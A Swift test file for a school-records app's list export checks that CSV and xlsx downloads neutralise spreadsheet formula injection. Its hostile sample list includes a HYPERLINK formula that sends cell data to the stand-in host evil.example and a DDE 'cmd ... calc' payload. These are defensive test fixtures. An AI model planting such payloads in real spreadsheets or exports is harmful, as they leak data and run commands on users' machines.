import Foundation
import HocBaCore
import Testing
@testable import HocBaOffice

/// Downloaded lists never hand a spreadsheet a formula (OWASP "CSV injection").
struct ListExportTests {
    static let hostile = [#"=HYPERLINK("http://evil.example/?x="&A2,"x")"#, "@SUM(1)", "-2+3+cmd|' /C calc'!A0", "+1",
                          "\tTab", "\rCR", "\r\nCRLF"]

    @Test func csvTextThatStartsLikeAFormulaIsPrefixedWithAQuote() {
        let csv = String(decoding: ListExport.csv(headers: ["Tên", "Số"],
                                                  rows: Self.hostile.map { [.text($0), .integer(-5)] }), as: UTF8.self)
        let lines = csv.dropFirst().components(separatedBy: "\r\n")
        #expect(lines[1] == #""'=HYPERLINK(""http://evil.example/?x=""&A2,""x"")",-5"#)
        #expect(lines[2] == "'@SUM(1),-5")
        #expect(lines[3] == "'-2+3+cmd|' /C calc'!A0,-5")
        #expect(lines[4] == "'+1,-5")
        #expect(lines[5] == "'\tTab,-5")
        #expect(lines[6] == "\"'\rCR\",-5")
        #expect(csv.contains("\"'\r\nCRLF\",-5"))
        // Ordinary text, a quote or dash inside, numbers and dates are untouched.
        let plain = String(decoding: ListExport.csv(headers: ["a"], rows: [[.text("Nguyễn Văn A-B"), .text("O'Neil"),
                                                                              .day(Day(2020, 1, 2)), .integer(7)]]),
                           as: UTF8.self)
        #expect(plain.hasSuffix("Nguyễn Văn A-B,O'Neil,02/01/2020,7\r\n"))
    }

    /// The xlsx download writes text as shared strings: never a formula, whatever the text.
    @Test func xlsxWritesHostileTextAsStringsNotFormulas() throws {
        let workbook = ListExport.workbook(title: "Cán bộ", headers: ["Tên"], rows: Self.hostile.map { [.text($0)] })
        let parts = try unzipParts(try XLSXWriter.write(workbook))
        let sheet = try #require(parts["xl/worksheets/sheet1.xml"])
        #expect(!sheet.contains("<f>") && !sheet.contains("<f "))
        #expect(parts["xl/sharedStrings.xml"]?.contains("=HYPERLINK(&quot;http://evil.example/") == true)
    }

    /// The summary report's workbook prints every column on the page's width, each sheet of it.
    @Test func theSummaryWorkbookFitsThePageWidth() throws {
        let json = try #require(repositoryFile("Tests/HocBaStoreTests/__Snapshots__/summary-2016-2020.json", from: #filePath))
        let report = try JSONDecoder().decode(SummaryReport.self, from: try Data(contentsOf: json))
        let workbook = SummaryReportExport.workbook(report, .init(scopeName: nil, typeLabels: [:], sourceLabels: [:],
                                                                  narrative: ["Đoạn một."], provinceName: "Bắc Kạn",
                                                                  issuedOn: Day(2021, 1, 15)))
        let parts = try unzipParts(try XLSXWriter.write(workbook))
        let sheets = parts.filter { $0.key.hasPrefix("xl/worksheets/sheet") }
        #expect(sheets.count == workbook.sheets.count && !sheets.isEmpty)
        for (name, xml) in sheets { #expect(xml.contains("fitToWidth=\"1\""), "\(name)") }
    }

    /// Printed from Excel, a list fits the page's width, on a landscape page when it has many columns.
    @Test func listsPrintToThePageWidth() throws {
        for (columns, orientation) in [(3, "portrait"), (8, "landscape")] {
            let headers = (1...columns).map { "Cột \($0)" }
            let workbook = ListExport.workbook(title: "Cán bộ", headers: headers,
                                               rows: [headers.map { .text($0) }])
            let sheet = try #require(try unzipParts(try XLSXWriter.write(workbook))["xl/worksheets/sheet1.xml"])
            #expect(sheet.contains("<pageSetUpPr fitToPage=\"1\"/>"))
            #expect(sheet.contains("orientation=\"\(orientation)\" fitToWidth=\"1\" fitToHeight=\"0\""))
        }
    }
}
